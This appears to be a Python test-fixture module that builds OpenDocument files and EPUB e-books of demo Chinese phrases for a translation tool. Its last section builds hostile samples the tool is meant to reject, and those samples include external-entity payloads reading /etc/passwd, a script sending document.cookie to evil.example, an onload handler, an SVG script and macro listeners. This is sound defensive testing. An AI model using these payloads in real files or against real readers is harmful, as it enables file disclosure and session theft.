"""OpenDocument files and EPUB e-books written by hand for the tests (no library makes them as a
teacher's office suite does, so the XML is LibreOffice's own shapes, small), and readers that
take the translated packages apart again. Every text is a demo phrase (``assets/demo_phrases.tsv``,
Chinese into English), so the demo model's translations are exact.
"""

from __future__ import annotations

import io
import zipfile

from lxml import etree

NS = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "presentation": "urn:oasis:names:tc:opendocument:xmlns:presentation:1.0",
    "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
    "fo": "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
    "manifest": "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0",
    "x": "http://www.w3.org/1999/xhtml",
    "opf": "http://www.idpf.org/2007/opf",
    "dc": "http://purl.org/dc/elements/1.1/",
    "ncx": "http://www.daisy.org/z3986/2005/ncx/",
}
_DECLS = " ".join(f'xmlns:{k}="{v}"' for k, v in NS.items()
                  if k not in ("manifest", "x", "opf", "dc", "ncx"))
MIME = {".odt": "application/vnd.oasis.opendocument.text",
        ".odp": "application/vnd.oasis.opendocument.presentation",
        ".ods": "application/vnd.oasis.opendocument.spreadsheet"}
# A 1x1 PNG: the picture that must come back byte for byte.
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
                    "0000000d4944415478da63f8cfc0f01f0005000201a5e8b3a40000000049454e44ae426082")

ODT_BODY = """
<text:h text:style-name="Heading_1" text:outline-level="1">欢迎来到北京。</text:h>
<text:p text:style-name="Standard">谢谢你的帮助。今天天气很好。</text:p>
<text:p text:style-name="Standard">早上好。<text:span text:style-name="Bold">谢谢。</text:span></text:p>
<text:p text:style-name="Standard"><text:a xlink:type="simple" xlink:href="https://example.org/book">这本书很有意思。</text:a></text:p>
<text:list text:style-name="L1"><text:list-item><text:p>我们明天见。</text:p></text:list-item></text:list>
<table:table table:name="Marks"><table:table-column/>
<table:table-row><table:table-cell office:value-type="string"><text:p>你叫什么名字？</text:p></table:table-cell></table:table-row>
</table:table>
<text:p text:style-name="Standard">你好<text:tab/>谢谢。<text:note text:id="n1" text:note-class="footnote"><text:note-citation>1</text:note-citation><text:note-body><text:p>早上好。</text:p></text:note-body></text:note></text:p>
<text:p><office:annotation><dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">T</dc:creator><text:p>你好</text:p></office:annotation>干得好！👍</text:p>
<text:p><draw:frame draw:name="pic" svg:width="1cm" svg:height="1cm" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"><draw:image xlink:href="Pictures/dot.png" xlink:type="simple"/></draw:frame></text:p>
"""
ODT_HEADER = "今天天气很好。"

ODP_BODY = """
<draw:page draw:name="page1" draw:master-page-name="Default">
 <draw:frame presentation:class="title"><draw:text-box><text:p>欢迎来到北京。</text:p></draw:text-box></draw:frame>
 <draw:frame presentation:class="outline"><draw:text-box><text:list><text:list-item><text:p>今天天气很好。</text:p></text:list-item><text:list-item><text:p>这本书很有意思。</text:p></text:list-item></text:list></draw:text-box></draw:frame>
 <draw:frame><table:table><table:table-row><table:table-cell><text:p>谢谢。</text:p></table:table-cell><table:table-cell><text:p>42</text:p></table:table-cell></table:table-row></table:table></draw:frame>
 <draw:frame><draw:image xlink:href="Pictures/dot.png"/></draw:frame>
 <presentation:notes><draw:frame presentation:class="notes"><draw:text-box><text:p>我们明天见。</text:p></draw:text-box></draw:frame></presentation:notes>
</draw:page>
"""

ODS_BODY = """
<table:table table:name="成绩">
 <table:table-row>
  <table:table-cell office:value-type="string"><text:p>早上好。</text:p></table:table-cell>
  <table:table-cell office:value-type="string"><text:p>你好</text:p></table:table-cell>
 </table:table-row>
 <table:table-row>
  <table:table-cell office:value-type="float" office:value="7"><text:p>7</text:p></table:table-cell>
  <table:table-cell table:formula="of:=[.A2]*2" office:value-type="float" office:value="14"><text:p>14</text:p></table:table-cell>
  <table:table-cell table:formula="of:=&quot;你好&quot;" office:value-type="string" office:string-value="你好"><text:p>你好</text:p></table:table-cell>
  <table:table-cell office:value-type="string"><text:p>谢谢你的帮助。</text:p></table:table-cell>
 </table:table-row>
</table:table>
<table:table table:name="Sheet2">
 <table:table-row><table:table-cell office:value-type="string"><text:p>今天天气很好。</text:p></table:table-cell></table:table-row>
</table:table>
"""
_BODY_TAG = {".odt": "text", ".odp": "presentation", ".ods": "spreadsheet"}


def make_odf(ext: str, body: str | None = None, *, header: str | None = ODT_HEADER,
             extra: dict[str, bytes] | None = None, mimetype: str | None = None) -> bytes:
    """An OpenDocument file of kind ``ext`` (its standard body unless ``body``), with a picture;
    a text document has a page header (``header``) in ``styles.xml``."""
    body = body if body is not None else {".odt": ODT_BODY, ".odp": ODP_BODY,
                                          ".ods": ODS_BODY}[ext]
    tag = _BODY_TAG[ext]
    content = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content {_DECLS} '
               f'office:version="1.3"><office:automatic-styles/><office:body><office:{tag}>'
               f'{body}</office:{tag}></office:body></office:document-content>')
    master = (f'<style:header><text:p>{header}</text:p></style:header>'
              if header and ext == ".odt" else "")
    styles = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles {_DECLS} '
              f'office:version="1.3"><office:master-styles><style:master-page '
              f'style:name="Standard">{master}</style:master-page></office:master-styles>'
              f'</office:document-styles>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
                f'"{NS["manifest"]}" manifest:version="1.3"><manifest:file-entry '
                f'manifest:full-path="/" manifest:media-type="{MIME[ext]}"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type='
                '"text/xml"/><manifest:file-entry manifest:full-path="styles.xml" '
                'manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path='
                '"Pictures/dot.png" manifest:media-type="image/png"/></manifest:manifest>')
    members = {"content.xml": content.encode(), "styles.xml": styles.encode(),
               "Pictures/dot.png": PNG, "META-INF/manifest.xml": manifest.encode(),
               **(extra or {})}
    return _zip(mimetype or MIME[ext], members)


ONE_PHRASE = {  # the one paragraph of the smallest real file of each kind (bombs.base)
    ".odt": "<text:p>谢谢你的帮助。</text:p>",
    ".odp": ('<draw:page draw:name="p1"><draw:frame><draw:text-box><text:p>谢谢你的帮助。'
             "</text:p></draw:text-box></draw:frame></draw:page>"),
    ".ods": ('<table:table table:name="S"><table:table-row><table:table-cell office:value-type='
             '"string"><text:p>谢谢你的帮助。</text:p></table:table-cell></table:table-row>'
             "</table:table>"),
}


def base(ext: str) -> bytes:
    """The smallest real file of kind ``ext`` (.odt .odp .ods .epub): one demo phrase."""
    if ext == ".epub":
        one = ('<?xml version="1.0" encoding="utf-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml">'
               "<head><title></title></head><body>\n<p>谢谢你的帮助。</p>\n</body>\n</html>\n")
        return make_epub(chapters={"OEBPS/ch1.xhtml": one}, minimal=True)
    return make_odf(ext, ONE_PHRASE[ext], header=None)


def _zip(mimetype: str, members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr(zipfile.ZipInfo("mimetype"), mimetype.encode())  # first, stored
        for name, data in members.items():
            package.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {info.filename: package.read(info) for info in package.infolist()}


def first_member(data: bytes) -> zipfile.ZipInfo:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.infolist()[0]


def xml(data: bytes, name: str):
    return etree.fromstring(members(data)[name])


def paragraphs(root) -> list[str]:
    """Every text:p and text:h's text (with its spans', links' and spaces'), in order, a nested
    note's paragraph apart."""
    out = []
    for p in root.iter(f"{{{NS['text']}}}p", f"{{{NS['text']}}}h"):
        out.append("".join(_own_text(p)))
    return out


def _own_text(el):
    yield el.text or ""
    for child in el:
        local = etree.QName(child).localname
        if local in ("span", "a"):
            yield from _own_text(child)
        elif local == "s":
            yield " "
        elif local == "tab":
            yield "\t"
        yield child.tail or ""


# -- EPUB ------------------------------------------------------------------------------------------
CH1 = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" lang="zh" xml:lang="zh">
<head><title>欢迎来到北京。</title><link rel="stylesheet" type="text/css" href="style.css"/></head>
<body>
<h1 id="c1">欢迎来到北京。</h1>
<p>谢谢你的帮助。今天天气很好。</p>
<p><a href="ch2.xhtml#s1">我们明天见。</a></p>
<p><img src="images/dot.png" alt="你好"/></p>
</body>
</html>
"""
CH2 = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="zh">
<head><title>这本书很有意思。</title></head>
<body>
<h2 id="s1">这本书很有意思。</h2>
<p>早上好。&nbsp;<em>谢谢。</em></p>
</body>
</html>
"""
NAV = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" lang="zh">
<head><title>你好</title></head>
<body><nav epub:type="toc" id="toc"><ol>
<li><a href="ch1.xhtml#c1">欢迎来到北京。</a></li>
<li><a href="ch2.xhtml#s1">这本书很有意思。</a></li>
</ol></nav></body>
</html>
"""
NCX = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE ncx PUBLIC "-//NISO//DTD ncx 2005-1//EN" "http://www.daisy.org/z3986/2005/ncx-2005-1.dtd">
<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/" version="2005-1">
<head><meta name="dtb:uid" content="urn:uuid:1"/></head>
<docTitle><text>你好</text></docTitle>
<navMap>
<navPoint id="n1" playOrder="1"><navLabel><text>欢迎来到北京。</text></navLabel><content src="ch1.xhtml#c1"/></navPoint>
<navPoint id="n2" playOrder="2"><navLabel><text>这本书很有意思。</text></navLabel><content src="ch2.xhtml#s1"/></navPoint>
</navMap>
</ncx>
"""
OPF = """<?xml version="1.0" encoding="utf-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="uid">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
<dc:identifier id="uid">urn:uuid:1</dc:identifier><dc:title>你好</dc:title><dc:language>zh</dc:language>
</metadata>
<manifest>
<item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
<item id="ncx" href="toc.ncx" media-type="application/x-dtbncx+xml"/>
<item id="ch1" href="ch1.xhtml" media-type="application/xhtml+xml"/>
<item id="ch2" href="ch2.xhtml" media-type="application/xhtml+xml"/>
<item id="css" href="style.css" media-type="text/css"/>
<item id="dot" href="images/dot.png" media-type="image/png"/>
</manifest>
<spine toc="ncx"><itemref idref="ch1"/><itemref idref="ch2"/></spine>
</package>
"""
CONTAINER = """<?xml version="1.0" encoding="UTF-8"?>
<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
<rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles>
</container>
"""
CSS = b"h1 { color: #333; }\n"


def make_epub(*, chapters: dict[str, str] | None = None, extra: dict[str, bytes] | None = None,
              mimetype: str = "application/epub+zip", minimal: bool = False) -> bytes:
    """A small EPUB 3 (with an EPUB 2 NCX): two chapters, a navigation document, a picture;
    ``minimal``: one chapter and nothing else to translate."""
    files = {"OEBPS/ch1.xhtml": CH1, "OEBPS/ch2.xhtml": CH2, **(chapters or {})}
    opf = OPF
    if minimal:
        files.pop("OEBPS/ch2.xhtml")
        opf = "\n".join(line for line in OPF.splitlines()
                        if not any(x in line for x in ('"nav"', '"ncx"', '"ch2"')))
        opf = opf.replace("<dc:title>你好</dc:title>", "").replace('<spine toc="ncx">',
                                                                   "<spine>")
    members_ = {"META-INF/container.xml": CONTAINER.encode(), "OEBPS/content.opf": opf.encode(),
                **({} if minimal else {"OEBPS/nav.xhtml": NAV.encode(),
                                       "OEBPS/toc.ncx": NCX.encode()}),
                **{k: v.encode() for k, v in files.items()},
                "OEBPS/style.css": CSS, "OEBPS/images/dot.png": PNG, **(extra or {})}
    return _zip(mimetype, members_)


def chapter(data: bytes, name: str):
    """A translated chapter parsed as XML (an entity it names is kept as a reference)."""
    parser = etree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True)
    return etree.fromstring(members(data)[f"OEBPS/{name}"], parser)


def texts(root, local: str) -> list[str]:
    return ["".join(el.itertext()) for el in root.iter(f"{{{NS['x']}}}{local}")]


# -- hostile files ----------------------------------------------------------------------------------
ENTITY = '<!DOCTYPE html [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
SCRIPTED = CH1.replace("</head>", "<script>fetch('https://evil.example/'+document.cookie)"
                                     "</script></head>")
ON_LOAD = CH1.replace("<body>", '<body onload="steal()">')
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
       b'<circle r="1"/></svg>')
ENCRYPTION = (b'<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" '
              b'xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData>'
              b'<enc:CipherData><enc:CipherReference URI="OEBPS/ch1.xhtml"/></enc:CipherData>'
              b'</enc:EncryptedData></encryption>')
LISTENERS = ('<office:scripts><office:event-listeners><script:event-listener '
             'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
             'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main"/>'
             '</office:event-listeners></office:scripts>')


def _odt_with_entity() -> bytes:
    data = make_odf(".odt")
    content = members(data)["content.xml"].decode()
    hostile = content.replace("?>\n", '?>\n<!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>',
                              1).replace("欢迎来到北京。", "&s;", 1)
    return make_odf(".odt", extra={"content.xml": hostile.encode()})


def _with_scripts(ext: str) -> bytes:
    """A file whose body starts a macro when it is opened."""
    content = members(make_odf(ext))["content.xml"]
    hostile = content.replace(b"<office:body>", LISTENERS.encode() + b"<office:body>", 1)
    return make_odf(ext, extra={"content.xml": hostile})


# Hostile or mistaken files of these kinds: (file name, maker, the words of the refusal).
HOSTILE = {
    "an e-book chapter with an external entity": (
        "book.epub", lambda: make_epub(chapters={"OEBPS/ch1.xhtml": CH1.replace(
            "<!DOCTYPE html>", ENTITY).replace("<h1 id=\"c1\">", "<h1 id=\"c1\">&secret;")}),
        "declares a DOCTYPE with entities"),
    "an .odt with an external entity": ("lesson.odt", _odt_with_entity, "declares a DOCTYPE"),
    "an e-book with a script": ("book.epub", lambda: make_epub(
        chapters={"OEBPS/ch1.xhtml": SCRIPTED}), "has scripts (OEBPS/ch1.xhtml)"),
    "an e-book with an event attribute": ("book.epub", lambda: make_epub(
        chapters={"OEBPS/ch1.xhtml": ON_LOAD}), "has scripts"),
    "an e-book whose picture has a script": ("book.epub", lambda: make_epub(
        extra={"OEBPS/images/pic.svg": SVG}), "has scripts (OEBPS/images/pic.svg)"),
    "an e-book with DRM": ("book.epub", lambda: make_epub(
        extra={"META-INF/encryption.xml": ENCRYPTION}), "protected by DRM"),
    "an .odt with macros": ("lesson.odt", lambda: make_odf(
        ".odt", extra={"Basic/Standard/Module1.xml": b"<module/>"}), "holds macros"),
    "an .ods run by an event": ("marks.ods", lambda: _with_scripts(".ods"), "holds scripts"),
    "an .odt that is a spreadsheet inside": ("lesson.odt", lambda: make_odf(".ods"),
                                            "OpenDocument spreadsheet (Calc) inside: name it .ods"),
    "an .odp that is an e-book": ("slides.odp", make_epub, "zip without the parts of one"),
    "an .epub that is an .odt": ("book.epub", lambda: make_odf(".odt"), "not an EPUB"),
    "an .ods that is a PDF": ("marks.ods", lambda: b"%PDF-1.4 nothing", "a PDF document"),
    "an .epub that is text": ("book.epub", lambda: b"hello", "not an e-book"),
}
